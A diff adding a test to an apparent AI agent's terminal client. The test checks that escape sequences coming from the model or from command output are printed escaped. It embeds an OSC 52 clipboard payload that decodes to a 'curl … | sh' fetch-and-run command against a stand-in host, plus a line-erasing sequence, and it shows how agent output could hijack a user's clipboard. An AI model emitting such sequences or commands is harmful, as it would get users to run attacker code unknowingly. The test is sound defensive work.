@@ -626,3 +626,23 @@ async def test_git_credentials_do_not_reach_the_model_through_read_file_or_searc
     results = [m["content"] for m in fake.requests[-1].body["messages"] if m["role"] == "tool"]
     assert len(results) == 3 and all("github.com/o/r.git" in r for r in results), results
     assert [r for r in results if GIT_TOKEN in r] == [], results
+
+
+OSC52 = "\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\x07"  # clipboard := `curl … | sh`
+
+
+def test_the_terminal_client_prints_no_control_sequence_the_model_or_a_command_wrote(
+    fake: FakeProvider, tmp_path: Path, project: Path
+) -> None:
+    # `hermes-acp run` / `chat` write the answer and the command output to a terminal,
+    # which obeys escape sequences: OSC 52 puts `curl … | sh` on the clipboard the user
+    # pastes next, `\x1b[1A\x1b[2K` erases the lines above.
+    from tests.support.acp_harness import run_hermes
+
+    (project / "show.py").write_text(f"print({OSC52!r} + 'output' + '\\x1b[1A\\x1b[2K')\n")
+    command = ToolCallSpec("terminal", {"command": "python3 show.py"}, id="t1")
+    fake.script([Reply(tool_calls=[command]), Reply(text=f"All done.{OSC52}\x1b[2K")])
+    result = run_hermes(server_env(tmp_path, fake), "run", "--mode", "auto", "show it", cwd=project)
+    assert "All done." in result.stdout and "output" in result.stderr, (result.stdout, result.stderr)
+    assert "\x1b" not in result.stdout + result.stderr and "\x07" not in result.stdout + result.stderr
+    assert "\\x1b]52" in result.stdout  # shown, escaped
